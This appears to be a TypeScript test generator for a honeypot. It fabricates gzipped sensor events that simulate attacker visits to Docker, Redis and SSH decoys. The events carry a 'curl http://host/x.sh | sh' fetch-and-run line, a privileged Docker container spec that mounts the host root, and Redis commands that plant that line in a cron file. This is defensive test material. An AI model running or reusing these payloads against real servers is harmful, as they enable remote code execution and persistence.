/**
 * Deliveries as sensors of a busy network make them: visits of about eight events, one in three from an address that nobody
 * saw before, with commands, hosts and images that many bring and some nobody brought before.
 */
import { createHash, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { batchLimits } from '../../honeypot/delivery/deliver.ts';
import { randomOf } from '../../honeypot/persona/random.ts';
import { uuid7 } from '../../honeypot/sensor/recorder.ts';
import { type DecoyEvent, emptyNorm } from '../../model/event.ts';

export interface Deliveries {
  /** The next batch of a sensor, gzipped lines. */
  next(): Buffer;
  readonly events: number;
}

/** What a visit does, in its order; a part of them is not like the others. */
interface Step {
  readonly type: string;
  readonly raw: string;
  readonly severity?: DecoyEvent['severity'];
  readonly attack?: readonly string[];
  readonly data?: Readonly<Record<string, unknown>>;
}

const port = { docker: 2375, redis: 6379, ssh: 22 } as const;

/** @param sensor by its name */
export function deliveriesOf(sensor: string): Deliveries {
  const random = randomOf('2026', sensor);
  const boot = randomUUID();
  const waiting: string[] = [];
  let [events, visits] = [0, 0];

  function visit(): void {
    visits += 1;
    const service = (['docker', 'redis', 'ssh'] as const)[visits % 3]!;
    // Most come again and again, as those who guess passwords do; the others are seen once.
    const source =
      visits % 3 === 0
        ? `198.19.${random.int(0, 255)}.${random.int(1, 254)}`
        : `198.18.0.${random.int(1, 200)}`;
    const [session, connection] = [random.hex(16), random.hex(16)];
    const host =
      visits % 10 === 0 ? `h${visits}.${sensor}.example.com` : `h${random.int(1, 200)}.example.com`;
    for (const { type, raw, severity = 'info', attack = [], data } of stepsOf(service, host, visits)) {
      events += 1;
      const bytes = Buffer.from(raw);
      const isCommand = raw.includes('http://');
      const event: DecoyEvent = {
        v: 1,
        id: uuid7(),
        sensor,
        boot,
        seq: events,
        ts: new Date().toISOString(),
        type: `${service}.${type}`,
        session,
        connection,
        src: { ip: source, port: 40_000 + (visits % 20_000) },
        dst: { ip: '192.0.2.10', port: port[service] },
        fp:
          service === 'ssh' ? { ua: 'SSH-2.0-libssh2_1.4.3', hassh: '92674389fa1e47a27ddd8d9b63ecd42b' } : {},
        norm: isCommand
          ? {
              ...emptyNorm,
              urls: [`http://${host}/x.sh`],
              hosts: [host],
              commands: [`curl http://${host}/x.sh`],
            }
          : emptyNorm,
        raw: {
          sha256: createHash('sha256').update(bytes).digest('hex'),
          len: bytes.length,
          head: bytes.toString('base64'),
        },
        attack,
        severity,
        ...(data !== undefined && { data }),
      };
      waiting.push(JSON.stringify(event));
    }
  }

  return {
    next() {
      while (waiting.length < batchLimits.events) visit();
      return gzipSync(`${waiting.splice(0, batchLimits.events).join('\n')}\n`, { level: 1 });
    },
    get events() {
      return events - waiting.length;
    },
  };
}

function stepsOf(service: keyof typeof port, host: string, number: number): readonly Step[] {
  const line = `curl -fsSL http://${host}/x.sh | sh`;
  const connect: Step = { type: 'connect', raw: '', data: { port: service } };
  const data = { port: service, durationMs: 1200 + (number % 500), received: 900, sent: 2100 };
  return [connect, ...told(service, line, number), { type: 'close', raw: '', data }];
}

function told(service: keyof typeof port, line: string, number: number): readonly Step[] {
  switch (service) {
    case 'docker': {
      const get = (target: string): Step => ({
        type: 'request',
        raw: `GET ${target} HTTP/1.1\r\nHost: docker\r\nUser-Agent: Go-http-client/1.1\r\n\r\n`,
        severity: 'low',
        attack: ['T1613'],
        data: { method: 'GET', target, isKnown: true },
      });
      const raw = JSON.stringify({
        Image: 'alpine',
        Cmd: ['chroot', '/mnt', 'sh', '-c', line],
        HostConfig: { Binds: ['/:/mnt'], Privileged: true, NetworkMode: 'host' },
      });
      const create: Step = {
        type: 'container.create',
        raw,
        severity: 'critical',
        attack: ['T1610', 'T1611', 'T1105'],
        data: {
          image: 'alpine',
          cmd: ['chroot', '/mnt', 'sh', '-c', line],
          binds: ['/:/mnt'],
          privileged: true,
        },
      };
      const start: Step = { type: 'container.start', raw: '', severity: 'high', attack: ['T1610'] };
      return [
        get('/version'),
        get('/_ping'),
        get('/v1.24/containers/json'),
        get('/v1.24/info'),
        create,
        start,
      ];
    }
    case 'redis':
      return ['INFO', 'CONFIG SET dir /var/spool/cron', `SET x "*/1 * * * * ${line}"`, 'SAVE'].map((raw) => ({
        type: 'command',
        raw,
        severity: 'medium',
        data: { command: raw.split(' ')[0], args: raw.split(' ').slice(1) },
      }));
    case 'ssh':
      return [
        {
          type: 'client',
          raw: '',
          data: { version: 'SSH-2.0-libssh2_1.4.3', algorithms: 'curve25519-sha256' },
        },
        ...[1, 2, 3, 4].map(
          (guess): Step => ({
            type: 'auth',
            raw: '',
            severity: 'low',
            attack: ['T1110'],
            data: {
              user: 'root',
              method: 'password',
              accepted: guess === 4,
              password: `pass${(number * guess) % 500}`,
            },
          }),
        ),
        {
          type: 'exec',
          raw: line,
          severity: 'high',
          attack: ['T1059.004', 'T1105'],
          data: { command: line, user: 'root' },
        },
      ];
  }
}
